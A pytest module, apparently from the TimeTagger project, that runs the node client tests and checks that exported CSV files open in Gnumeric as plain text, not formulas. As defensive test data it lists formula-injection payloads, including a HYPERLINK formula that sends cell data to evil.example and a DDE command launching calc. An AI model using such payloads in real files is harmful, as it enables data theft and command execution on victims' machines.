"""Layer 2: the client logic, compiled by PScript, run in node.

Every ``tests/client/*.test.js`` file runs with node's built-in test runner against the
client modules of ``site_src/`` compiled into a temporary directory (see harness.js).
Also here: the CSV files the client writes, opened by a real spreadsheet (Gnumeric's
``ssconvert``, Debian package ``gnumeric``).
"""

import csv
import glob
import gzip
import io
import json
import os
import re
import shutil
import subprocess

import pytest

from conftest import ROOT, SITE_SRC
from timetagger.server._assets import compile_pymodule

CLIENT_TESTS = sorted(glob.glob(os.path.join(ROOT, "tests", "client", "*.test.js")))


@pytest.fixture(scope="session")
def compiled_dir(tmp_path_factory):
    out = tmp_path_factory.mktemp("compiled")
    modules = {}
    for path in sorted(glob.glob(os.path.join(SITE_SRC, "**", "*.py"), recursive=True)):
        if os.path.basename(path).startswith("_"):
            continue
        with open(path, encoding="utf-8") as f:
            module = compile_pymodule(f.read(), path)
        (out / f"{module.name}.js").write_text(module, encoding="utf-8")
        modules[module.name] = {"requires": list(module.requires)}
    (out / "modules.json").write_text(json.dumps(modules), encoding="utf-8")
    return str(out)


def test_there_are_client_tests():
    assert CLIENT_TESTS, "no tests/client/*.test.js found"


@pytest.mark.node
@pytest.mark.parametrize(
    "path", CLIENT_TESTS, ids=[os.path.basename(p) for p in CLIENT_TESTS]
)
def test_client_logic_in_node(path, compiled_dir):
    node = shutil.which("node")
    assert node, "node is needed for the client tests (apt-get install nodejs)"
    r = subprocess.run(
        [node, "--test", "--test-reporter=spec", path],
        capture_output=True,
        text=True,
        env=dict(os.environ, TT_COMPILED_DIR=compiled_dir),
        timeout=300,
    )
    assert r.returncode == 0, (
        f"{os.path.basename(path)} failed:\n{r.stdout}\n{r.stderr}"
    )


# Descriptions a spreadsheet would run as formulas (issue 9.5), as records.
FORMULAS = [
    "=1+2",
    '=HYPERLINK("https://evil.example/?"&A1,"click me")',
    "+3+4 #tag",
    "-5+1",
    "@SUM(1,2)",
    "=cmd|' /C calc'!A0",
    "'=already quoted",
]

_WRITE_CSV = """
const fs = require("fs");
const { load } = require(process.env.TT_HARNESS);
const exporter = load("exporter");
const reports = load("reports");
const formulas = JSON.parse(process.env.TT_FORMULAS);
const t0 = 1710403200;
const records = formulas.map((ds, i) => ({
    key: "key" + i, t1: t0 + i * 3600, t2: t0 + i * 3600 + 1800, ds, mt: t0, st: 0,
}));
fs.writeFileSync(process.env.TT_OUT + "/export.csv",
    exporter.to_csv(exporter.export_rows(records, "unix")));
const report = reports.build_report(records, t0 - 86400, t0 + 2 * 86400,
    { grouping: "ds", now: t0 + 3 * 86400 });
fs.writeFileSync(process.env.TT_OUT + "/report.csv", reports.to_csv(report, "=user"));
"""


@pytest.mark.node
def test_a_spreadsheet_reads_our_csv_as_text(compiled_dir, tmp_path):
    """The report CSV and the export, opened by Gnumeric: no cell is a formula, and
    each description reads back as the text the user wrote."""
    node = shutil.which("node")
    ssconvert = shutil.which("ssconvert")
    assert node, "node is needed for the client tests (apt-get install nodejs)"
    assert ssconvert, (
        "ssconvert is needed: apt-get install --no-install-recommends gnumeric"
    )
    env = dict(
        os.environ,
        TT_COMPILED_DIR=compiled_dir,
        TT_HARNESS=os.path.join(ROOT, "tests", "client", "harness.js"),
        TT_FORMULAS=json.dumps(FORMULAS),
        TT_OUT=str(tmp_path),
    )
    r = subprocess.run(
        [node, "-e", _WRITE_CSV], capture_output=True, text=True, env=env, timeout=60
    )
    assert r.returncode == 0, r.stderr
    for name in ["export", "report"]:
        csv_path = tmp_path / f"{name}.csv"
        book = tmp_path / f"{name}.gnumeric"
        back = tmp_path / f"{name}-values.csv"
        for target in [book, back]:
            r = subprocess.run(
                [ssconvert, str(csv_path), str(target)],
                capture_output=True,
                text=True,
                timeout=60,
            )
            assert r.returncode == 0 and target.exists(), r.stderr
        # Gnumeric's own file: a formula cell has no ValueType and starts with "=".
        xml = gzip.decompress(book.read_bytes()).decode()
        cells = re.findall(r"<gnm:Cell ([^>]*)>([^<]*)</gnm:Cell>", xml)
        assert len(cells) > 20, name
        formulas = [text for attrs, text in cells if "ValueType" not in attrs]
        assert formulas == [], f"{name}: formula cells {formulas}"
        # The values as the spreadsheet shows them: every description as written.
        rows = list(csv.reader(io.StringIO(back.read_text())))
        if name == "export":
            assert [row[4] for row in rows[1:]] == FORMULAS
        else:
            records = [row for row in rows if row[:2] == ["", ""] and row[2]]
            assert sorted(row[6] for row in records) == sorted(FORMULAS)
            assert {row[7] for row in records} == {"=user"}
            titles = [row[1] for row in rows[1:] if row[0] and row[1] != "Total"]
            assert sorted(titles) == sorted(FORMULAS)
